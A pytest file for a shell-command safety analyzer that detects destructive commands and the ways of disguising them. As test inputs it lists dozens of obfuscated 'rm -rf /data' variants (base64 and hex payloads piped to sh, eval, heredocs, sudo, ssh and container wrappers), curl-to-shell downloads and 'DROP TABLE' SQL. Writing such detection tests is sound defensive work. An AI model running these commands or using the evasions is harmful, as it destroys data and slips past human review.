"""The shell analyzer: what it unwraps, what it reports, and what it leaves alone.

Uses its own inline rule pack (TEST_PACK) so it does not depend on the shipped packs' contents;
a few end-to-end tests at the bottom use the shipped packs through analyze_command.
"""

from __future__ import annotations

import pytest

from approve.analyze import analyze_command
from approve.analyze.rules import RuleSet, load_pack_text
from approve.analyze.shell import analyze_line, analyze_shell, decode_ansi_c, parse_commands
from approve.model import Finding, Tier

TEST_PACK = """
pack: test
commands:
  find: {clusters: false}
  git: {value_flags: [-C, -c]}
rules:
  - id: t.rm-recursive
    severity: critical
    match: {command: rm, any_flags: [-r, -R, --recursive]}
    resource: {rest: true}
    why: deletes a tree
  - id: t.rm
    severity: high
    match: {command: rm, not_flags: [-r, -R, --recursive]}
    resource: {rest: true}
    why: deletes files
  - id: t.git-push-force
    severity: critical
    match: {command: git, args: [push], any_flags: [--force, -f]}
    why: rewrites remote history
  - id: t.git-read
    severity: safe
    match: {command: git, args: [status]}
    why: read-only
  - id: t.git-log
    severity: safe
    match: {command: git, args: [log]}
    why: read-only
  - id: t.find-delete
    severity: critical
    match: {command: find, any_flags: [-delete]}
    why: deletes what it finds
  - id: t.find-read
    severity: safe
    match: {command: find}
    why: read-only
  - id: t.kubectl-delete
    severity: high
    match: {command: kubectl, args: [delete]}
    resource: {positional: 0}
    why: deletes objects
  - id: t.read-only
    severity: safe
    match: {command: [ls, cat, grep, head, wc, curl, base64, xxd, sort, tee]}
    why: read-only
  - id: t.psql
    severity: safe
    match: {command: [psql, mysql, sqlite3, python3, python, node, perl, ssh, docker, sh]}
    why: the client itself; what it runs is analyzed separately
  - id: t.overwrite
    severity: low
    match: {command: ">"}
    resource: {positional: 0}
    why: overwrites a file
  - id: t.drop-table
    severity: critical
    match: {sql: drop_table}
    why: drops a table
"""


@pytest.fixture(scope="module")
def ruleset() -> RuleSet:
    rules = RuleSet()
    load_pack_text(TEST_PACK, "test-pack", rules)
    return rules


def findings(text: str, ruleset: RuleSet) -> list[Finding]:
    return analyze_shell(text, ruleset).findings


def rules_of(text: str, ruleset: RuleSet) -> set[str]:
    return {f.rule for f in findings(text, ruleset)}


def tier(text: str, ruleset: RuleSet) -> Tier:
    return max((f.severity for f in findings(text, ruleset)), default=Tier.SAFE)


# ---------------------------------------------------------------------------------------------
# Words and commands


def test_argv_has_quotes_removed_and_ansi_c_decoded() -> None:
    result = parse_commands("""rm -r"f" 'a b' $'c\\x41\\n' "d\\"e" f\\ g""")
    assert result.parse_ok
    (command,) = result.commands
    assert command.argv == ("rm", "-rf", "a b", "cA\n", 'd"e', "f g")
    assert command.text == "rm -rf 'a b' 'cA\n' 'd\"e' 'f g'"
    assert not command.dynamic


def test_ansi_c_decoding() -> None:
    assert decode_ansi_c(r"\x72\x6d \055rf \u00e9\t\'") == "rm -rf é\t'"
    assert decode_ansi_c(r"\cA\e") == "\x01\x1b"


def test_env_prefix_and_lines() -> None:
    result = parse_commands("ls\nA=1 B='x y' rm -f z\n", first_line=10)
    assert [c.argv[0] for c in result.commands] == ["ls", "rm"]
    rm = result.commands[1]
    assert (rm.line, rm.end_line) == (11, 11)
    assert rm.env == (("A", "1"), ("B", "x y"))


def test_nested_string_keeps_outer_line_and_via() -> None:
    result = parse_commands("ls\nsudo bash -c 'echo hi\nrm -rf /'")
    rm = result.commands[-1]
    assert rm.argv == ("rm", "-rf", "/")
    assert (rm.line, rm.end_line) == (2, 3)  # the outer command spans both lines
    assert rm.via == ("sudo", "bash -c")


def test_unknown_variable_makes_word_dynamic() -> None:
    (command,) = parse_commands('rm -rf "$DIR"/x').commands
    assert command.dynamic
    assert command.argv == ("rm", "-rf", "$DIR/x")


def test_variables_set_earlier_are_substituted() -> None:
    result = parse_commands('F=-rf; T="/a /b"; rm $F $T "$T"')
    assert result.commands[-1].argv == ("rm", "-rf", "/a", "/b", "/a /b")
    assert not result.commands[-1].dynamic


def test_redirects_become_pseudo_commands() -> None:
    result = parse_commands("echo hi > out.txt 2>&1; date >> log; a &> both; b >| c; cat < in")
    pseudo = [c.argv for c in result.commands if c.argv[0] in (">", ">>")]
    assert pseudo == [(">", "out.txt"), (">>", "log"), (">", "both"), (">", "c")]
    first = next(c for c in result.commands if c.argv == (">", "out.txt"))
    assert first.via == ("echo",)


def test_redirect_on_list_belongs_to_last_command() -> None:
    result = parse_commands("git status && ls > out.txt")
    assert next(c for c in result.commands if c.argv[0] == ">").via == ("ls",)


def test_empty_input_is_safe() -> None:
    assert parse_commands("").commands == []
    assert analyze_shell("", RuleSet()).findings == []


# ---------------------------------------------------------------------------------------------
# Seeing through bypasses

SEE_THROUGH = [
    "rm -rf /data",
    "true; rm -rf /data",
    "true && rm -rf /data",
    "false || rm -rf /data",
    "ls | rm -rf /data",
    "ls\nrm -rf /data",
    "(rm -rf /data)",
    "{ rm -rf /data; }",
    "echo $(rm -rf /data)",
    "echo `rm -rf /data`",
    "diff <(rm -rf /data) x",
    "f() { rm -rf /data; }",
    "if true; then rm -rf /data; fi",
    "for i in 1 2; do rm -rf /data; done",
    "while true; do rm -rf /data; done",
    "case x in x) rm -rf /data;; esac",
    "! rm -rf /data",
    "sh -c 'rm -rf /data'",
    "bash -lc 'rm -rf /data'",
    "zsh -c -- 'rm -rf /data'",
    "dash -e -c 'rm -rf /data'",
    "bash -c \"bash -c 'rm -rf /data'\"",
    "eval 'rm -rf /data'",
    "eval rm -rf /data",
    "echo /data | xargs rm -rf",
    "xargs -n 1 -P 4 rm -rf < list",
    "xargs -I{} rm -rf {}",
    "xargs --max-args 5 rm -rf",
    "env --split-string='rm -rf' /data",
    "docker compose exec -T web rm -rf /data",
    "podman exec ctr sh -c 'rm -rf /data'",
    "echo $(( rm -rf /data ))",
    "sudo ( rm -rf /data )",
    "nohup VAR=x rm -rf /data",
    "sudo rm -rf /data",
    "sudo -u root -E rm -rf /data",
    "sudo -uroot rm -rf /data",
    "sudo --user=root VAR=1 rm -rf /data",
    "doas -u root rm -rf /data",
    "env -i A=1 rm -rf /data",
    "env -u HOME rm -rf /data",
    "nohup rm -rf /data &",
    "timeout -s KILL 5 rm -rf /data",
    "timeout 5s rm -rf /data",
    "nice -n 10 rm -rf /data",
    "nice -10 rm -rf /data",
    "ionice -c 3 rm -rf /data",
    "time rm -rf /data",
    "command rm -rf /data",
    "exec rm -rf /data",
    "builtin rm -rf /data",
    "stdbuf -oL rm -rf /data",
    "chroot /mnt rm -rf /data",
    "watch -n 5 rm -rf /data",
    "flock /tmp/lock rm -rf /data",
    "flock /tmp/lock -c 'rm -rf /data'",
    "setsid rm -rf /data",
    "unbuffer rm -rf /data",
    "caffeinate -i rm -rf /data",
    "su -c 'rm -rf /data' root",
    "A=1 rm -rf /data",
    "F=-rf; rm $F /data",
    "C=rm; $C -rf /data",
    "rm $'-rf' /data",
    "r\\m -rf /data",
    "'rm' -rf /data",
    "/bin/rm -rf /data",
    "ssh host 'rm -rf /data'",
    "ssh -p 2222 -i key user@host rm -rf /data",
    "kubectl exec -it pod -n ns -- rm -rf /data",
    "kubectl --context prod -n ns exec pod -- rm -rf /data",
    "docker --context prod exec ctr rm -rf /data",
    "docker compose -f prod.yml exec web rm -rf /data",
    "docker exec -it -u root ctr rm -rf /data",
    "find / -name x -exec rm -rf {} \\;",
    "find / -execdir rm -rf {} +",
    "echo 'rm -rf /data' | sh",
    "printf 'rm -rf /data' | bash",
    "echo cm0gLXJmIC9kYXRh | base64 -d | sh",
    "echo cm0gLXJmIC9kYXRh | base64 --decode | sudo bash",
    "echo 726d202d7266202f64617461 | xxd -r -p | sh",
    "bash <<EOF\nrm -rf /data\nEOF",
    "sh <<'EOF'\nrm -rf /data\nEOF",
    "cat <<EOF | sh\nrm -rf /data\nEOF",
    "bash <<< 'rm -rf /data'",
    "ssh host <<EOF\nrm -rf /data\nEOF",
    "echo 'rm -rf /data' > x.sh; sh x.sh",
    "echo 'rm -rf /data' > x.sh; chmod +x x.sh; ./x.sh",
    "cat > x.sh <<EOF\nrm -rf /data\nEOF\nbash x.sh",
    "printf 'rm -rf /data\\n' > x.sh && source x.sh",
    "echo 'rm -rf /data' | tee x.sh; . ./x.sh",
    "bash < x.sh <<< '' ; echo 'rm -rf /data' > y.sh; bash < y.sh",
    "python3 -c 'import os; os.system(\"rm -rf /data\")'",
    "python -c \"import subprocess; subprocess.run(['rm', '-rf', '/data'])\"",
    "perl -e 'system(\"rm -rf /data\")'",
    "perl -e '`rm -rf /data`'",
    'node -e \'require("child_process").execSync("rm -rf /data")\'',
    "python3 <<EOF\nimport os\nos.system('rm -rf /data')\nEOF",
]


@pytest.mark.parametrize("text", SEE_THROUGH)
def test_sees_through(text: str, ruleset: RuleSet) -> None:
    found = [f for f in findings(text, ruleset) if f.rule == "t.rm-recursive"]
    assert found, text
    if "xargs" not in text and "{}" not in text:  # there, find/xargs fill in the paths
        assert any("/data" in r for f in found for r in f.resources), found


def test_via_names_the_path(ruleset: RuleSet) -> None:
    (found,) = [
        f for f in findings("sudo bash -c 'xargs rm -rf'", ruleset) if f.rule == "t.rm-recursive"
    ]
    assert "sudo -> bash -c -> xargs" in found.why


def test_wrapper_options_are_not_taken_for_the_command(ruleset: RuleSet) -> None:
    # `-s KILL`: KILL is the signal, 5 the duration; git is the command.
    (command,) = parse_commands("timeout -s KILL 5 git push -f").commands
    assert command.argv == ("git", "push", "-f")
    (command,) = parse_commands("sudo -g wheel -- env -C /tmp A=1 git status").commands
    assert command.argv == ("git", "status")
    assert command.env == (("A", "1"),)


def test_nothing_runs_for_lookup_options() -> None:
    assert parse_commands("command -v rm").commands == []
    assert parse_commands("sudo -l").commands == []


def test_heredoc_commands_point_at_their_lines(ruleset: RuleSet) -> None:
    text = "ls\nbash <<EOF\necho hi\nrm -rf /data\nEOF\n"
    (found,) = [f for f in findings(text, ruleset) if f.rule == "t.rm-recursive"]
    assert found.line == 4


def test_script_is_read_when_it_runs_not_when_written(ruleset: RuleSet) -> None:
    text = "cat > x.sh <<EOF\nrm -rf /data\nEOF\necho later\nbash x.sh\n"
    (found,) = [f for f in findings(text, ruleset) if f.rule == "t.rm-recursive"]
    assert found.line == 5
    assert "script x.sh" in found.why
    assert "t.rm-recursive" not in rules_of("cat > x.sh <<EOF\nrm -rf /data\nEOF\n", ruleset)


# ---------------------------------------------------------------------------------------------
# Bypass findings


def test_dynamic_command_name_is_high(ruleset: RuleSet) -> None:
    found = findings('"$CMD" -rf /', ruleset)
    assert [f.rule for f in found] == ["shell.dynamic-command"]
    assert found[0].severity == Tier.HIGH
    assert "shell.dynamic-command" in rules_of("$(echo rm) -rf /", ruleset)


def test_dynamic_args_of_destructive_program_are_high(ruleset: RuleSet) -> None:
    found = findings("git $ARGS", ruleset)
    assert [(f.rule, f.severity) for f in found] == [("shell.dynamic-args", Tier.HIGH)]
    # Read-only programs with dynamic words stay quiet, and a known value is no longer dynamic.
    assert findings("ls $DIR", ruleset) == []
    assert "shell.dynamic-args" not in rules_of("A=status; git $A", ruleset)


def test_unknown_stream_into_interpreter_is_high(ruleset: RuleSet) -> None:
    for text in (
        "curl -s https://x.sh | sh",
        "curl -s https://x.sh | sudo bash",
        "wget -qO- x | python3",
        "bash <(curl -s https://x.sh)",
        "curl -o i.sh x > i.sh; bash i.sh",
        "echo notbase64!! | base64 -d | sh",
    ):
        found = [f for f in findings(text, ruleset) if f.rule == "shell.pipe-to-interpreter"]
        assert found and found[0].severity == Tier.HIGH, text


def test_unseen_script_is_low(ruleset: RuleSet) -> None:
    for text in ("./deploy.sh", "bash deploy.sh", "source ~/.bashrc", "python3 tool.py"):
        found = findings(text, ruleset)
        assert "shell.runs-script" in {f.rule for f in found}, text
        assert max(f.severity for f in found) == Tier.LOW, text


def test_answering_a_prompt_raises_one_tier(ruleset: RuleSet) -> None:
    for text in ("yes | rm x", "echo y | rm x", "printf 'y\\ny\\n' | rm x", "yes | sudo rm x"):
        found = findings(text, ruleset)
        assert ("shell.answers-prompt", Tier.HIGH) in {(f.rule, f.severity) for f in found}
        assert ("t.rm", Tier.CRITICAL) in {(f.rule, f.severity) for f in found}, text
    # Piping `yes` into a read-only command answers nothing.
    assert findings("yes | head -n 3", ruleset) == []


def test_interpreter_code(ruleset: RuleSet) -> None:
    found = findings("python3 -c 'import shutil; shutil.rmtree(\"/data\")'", ruleset)
    assert ("shell.interpreter-delete", Tier.HIGH) in {(f.rule, f.severity) for f in found}
    assert "shell.interpreter-delete" in rules_of(
        "node -e 'fs.rmSync(\"d\", {recursive: true})'", ruleset
    )
    assert "shell.dynamic-command" in rules_of("python3 -c 'import os; os.system(cmd)'", ruleset)
    assert findings("python3 -c 'print(1 + 1)'", ruleset) == []


def test_sql_reaches_the_sql_analyzer(ruleset: RuleSet) -> None:
    pytest.importorskip("approve.analyze.sql").sql_findings  # noqa: B018
    for text in (
        "psql -h db -c 'DROP TABLE users'",
        "mysql -e 'DROP TABLE users' app",
        "sqlite3 app.db 'DROP TABLE users'",
        "psql app <<EOF\nselect 1;\nDROP TABLE users;\nEOF",
        "echo 'DROP TABLE users;' | psql app",
    ):
        assert "t.drop-table" in rules_of(text, ruleset), text
    (found,) = [
        f
        for f in findings("psql app <<EOF\nselect 1;\nDROP TABLE users;\nEOF", ruleset)
        if f.rule == "t.drop-table"
    ]
    assert found.line == 3


def test_sql_as_data_is_not_a_finding(ruleset: RuleSet) -> None:
    assert findings("cat <<EOF\nDROP TABLE users;\nEOF", ruleset) == []


# ---------------------------------------------------------------------------------------------
# Words that are only data

DATA_ONLY = [
    'git commit -m "rm -rf /"',
    "git log --grep 'push --force'",
    'grep "DROP TABLE" schema.sql',
    'grep -r "rm -rf" .',
    'echo "kubectl delete ns prod"',
    "echo 'sh -c \"rm -rf /\"'",
    "cat <<EOF\nrm -rf /\nkubectl delete ns prod\nEOF",
    "cat <<'EOF' | wc -l\nrm -rf /\nEOF",
    "ls '$(rm -rf /)'",
    "echo 'rm -rf /' | grep rm",
    "echo 'rm -rf /' > notes.txt",
    "# rm -rf /",
    "ls # rm -rf /",
    "curl -d 'rm -rf /' https://example.com",
]


@pytest.mark.parametrize("text", DATA_ONLY)
def test_destructive_words_as_data_are_not_findings(text: str, ruleset: RuleSet) -> None:
    destructive = [
        f for f in findings(text, ruleset) if f.rule.startswith("t.") and f.severity > Tier.LOW
    ]
    assert destructive == [], text
    assert tier(text, ruleset) <= Tier.LOW


# ---------------------------------------------------------------------------------------------
# Strict and lenient modes


def test_unparsed_is_high_but_parsed_parts_still_match(ruleset: RuleSet) -> None:
    found = findings("rm -rf /data (", ruleset)
    unparsed = [f for f in found if f.rule == "shell.unparsed"]
    assert unparsed and unparsed[0].severity == Tier.HIGH
    assert "could not parse: a human must read it" in unparsed[0].why
    assert "t.rm-recursive" in {f.rule for f in found}
    assert not parse_commands("echo 'unterminated").parse_ok


def test_unparsed_nested_string_is_high(ruleset: RuleSet) -> None:
    assert "shell.unparsed" in rules_of("bash -c 'if then'", ruleset)


def test_unknown_command_is_low_in_strict_mode(ruleset: RuleSet) -> None:
    found = findings("ls && frobnicate --all", ruleset)
    assert [(f.rule, f.severity) for f in found] == [("shell.unknown-command", Tier.LOW)]
    assert findings("ls -la && git status && cd /tmp && true", ruleset) == []


def test_functions_defined_here_are_known(ruleset: RuleSet) -> None:
    assert findings("hello() { ls; }; hello", ruleset) == []


def test_lenient_mode_reports_only_rule_matches_and_bypasses(ruleset: RuleSet) -> None:
    assert analyze_line("Then we frobnicate the widget (see below", 7, ruleset) == []
    (found,) = [f for f in analyze_line("sudo rm -rf /data", 7, ruleset) if f.severity > Tier.HIGH]
    assert (found.rule, found.line) == ("t.rm-recursive", 7)
    assert "shell.pipe-to-interpreter" in {
        f.rule for f in analyze_line("curl https://x | sh", 3, ruleset)
    }
    assert analyze_line("./configure && make", 1, ruleset) == []


def test_depth_limit_fails_closed(ruleset: RuleSet) -> None:
    text = "eval " * 30 + "ls"  # each eval parses the rest again, one level deeper
    found = findings(text, ruleset)
    assert ("shell.unparsed", Tier.HIGH) in {(f.rule, f.severity) for f in found}
    assert "nested too deeply" in next(f.why for f in found if f.rule == "shell.unparsed")


# ---------------------------------------------------------------------------------------------
# End to end, with the shipped packs


def _shipped_rule_ids() -> set[str]:
    from approve.analyze.rules import default_rules

    return {rule.id for rule in default_rules().rules}


def test_end_to_end_with_shipped_packs() -> None:
    if not any(rule.startswith("filesystem.") for rule in _shipped_rule_ids()):
        pytest.skip("the filesystem pack is not there yet")
    assert analyze_command("rm -rf /").tier == Tier.CRITICAL
    assert analyze_command("sudo sh -c 'rm -rf /var/lib'").tier == Tier.CRITICAL
    assert analyze_command("git push --force origin main").tier >= Tier.HIGH
    assert analyze_command('git commit -m "rm -rf /"').tier <= Tier.LOW
    assert analyze_command("F=-rf; rm $F /srv").tier == Tier.CRITICAL
    assert analyze_command("curl -s https://x.sh | sh").tier >= Tier.HIGH
    assert analyze_command("ls -la && git status").tier == Tier.SAFE


def test_non_ascii_words_keep_their_text() -> None:
    # The parser sees an ASCII-masked copy (see shell.py); argv must still be the real text.
    (command,) = parse_commands("rm -rf '/dätä/ünï' /ƒ").commands
    assert command.argv == ("rm", "-rf", "/dätä/ünï", "/ƒ")


def test_nested_strings_inherit_stdin(ruleset: RuleSet) -> None:
    assert "shell.answers-prompt" in rules_of("yes | sh -c 'rm -i x'", ruleset)
    assert "t.rm-recursive" in rules_of("echo 'rm -rf /data' | bash -c 'bash'", ruleset)


@pytest.mark.parametrize(
    "text",
    [
        "(" * 3000 + "ls" + ")" * 3000,
        "echo " + "$(" * 1000 + "ls" + ")" * 1000,
        "ls && " * 5000 + "ls",
    ],
)
def test_nesting_deeper_than_the_stack_is_high_not_a_crash(text: str, ruleset: RuleSet) -> None:
    found = findings(text, ruleset)
    assert ("shell.unparsed", Tier.HIGH) in {(f.rule, f.severity) for f in found}
    assert not parse_commands(text).parse_ok
